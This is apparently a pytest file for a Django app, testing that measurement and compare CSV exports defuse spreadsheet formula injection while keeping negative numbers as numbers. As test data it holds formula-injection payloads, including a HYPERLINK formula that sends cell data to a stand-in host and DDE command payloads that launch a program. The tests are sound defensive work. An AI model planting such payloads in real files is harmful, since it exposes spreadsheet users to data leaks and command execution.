"""Exports carry user text into other programs: a spreadsheet must not run it as a
formula, and a Markdown viewer must not read it as headings, links or tables."""

from __future__ import annotations

import csv
import io

import pytest

from jobs.choices import JobStatus
from jobs.models import Measurement
from tests.factories import make_environment, make_job

pytestmark = pytest.mark.django_db

# What a spreadsheet would evaluate, as OWASP lists the leading characters.
HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _hostile_job(team):
    job = make_job(team, status=JobStatus.SUCCEEDED, environment=make_environment())
    Measurement.objects.create(
        job=job,
        environment=job.environment,
        benchmark="=cmd|' /C calc'!A0",
        case={**HOSTILE, "neg_text": "-1.5", "neg": -2.25},
        metric="+throughput",
        unit="@TFLOP/s",
        value=-1.5,
        samples=[-1.5, -1.4, -1.6],
        better="higher",
    )
    return job


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_measurements_csv_writes_formula_cells_inert_and_numbers_as_numbers(
    member_client, team
):
    job = _hostile_job(team)
    (row,) = _rows(member_client.get(f"/jobs/{job.pk}/measurements.csv"))
    for key, text in HOSTILE.items():
        assert row[f"case.{key}"] == "'" + text
    assert row["benchmark"] == "'=cmd|' /C calc'!A0"
    assert row["metric"] == "'+throughput" and row["unit"] == "'@TFLOP/s"
    # a negative number starts with '-' too, and stays a number a spreadsheet sums
    assert row["value"] == "-1.5"
    assert row["case.neg"] == "-2.25" and row["case.neg_text"] == "-1.5"


def test_the_compare_csv_writes_formula_cells_inert(member_client, team):
    job = _hostile_job(team)
    (row,) = _rows(member_client.get(f"/compare/?jobs={job.pk}&format=csv"))
    assert row["benchmark"] == "'=cmd|' /C calc'!A0"
    assert row["metric"] == "'+throughput" and row["unit"] == "'@TFLOP/s"
    assert row["value"] == "-1.5"
